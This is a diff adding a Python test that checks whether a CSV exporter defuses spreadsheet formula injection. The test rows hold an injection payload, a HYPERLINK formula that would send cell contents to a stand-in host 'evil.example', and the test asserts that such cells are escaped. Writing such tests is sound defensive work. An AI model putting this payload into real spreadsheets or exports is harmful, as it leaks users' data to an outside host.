@@ -48,3 +48,19 @@ def test_csv_export_is_what_records_prints(export_db, tmp_path):
     _export(export_db, out, "--actor", "IRN")
     printed = CliRunner().invoke(app, ["records", "--db", str(export_db), "--format", "csv", "--actor", "IRN"])
     assert out.read_bytes() == printed.stdout_bytes
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_defused():
+    """Page text is untrusted: a title like =HYPERLINK(...) must not become a live formula in Excel."""
+    import csv as csv_module
+    import io
+
+    from armstrace.export.csv import write_table_csv
+
+    rows = [{"title": '=HYPERLINK("http://evil.example/?"&A1,"click")', "speaker": "@SUM(1)",
+             "evidence": ["-2+3", "plain sentence"], "quantity_min": -3}]
+    out = io.StringIO(newline="")
+    write_table_csv(rows, ["title", "speaker", "evidence", "quantity_min"], out)
+    row = next(csv_module.DictReader(io.StringIO(out.getvalue())))
+    assert row["title"].startswith("'=") and row["speaker"] == "'@SUM(1)"
+    assert row["evidence"].startswith("'-2+3") and row["quantity_min"] == "-3"   # numbers stay numbers
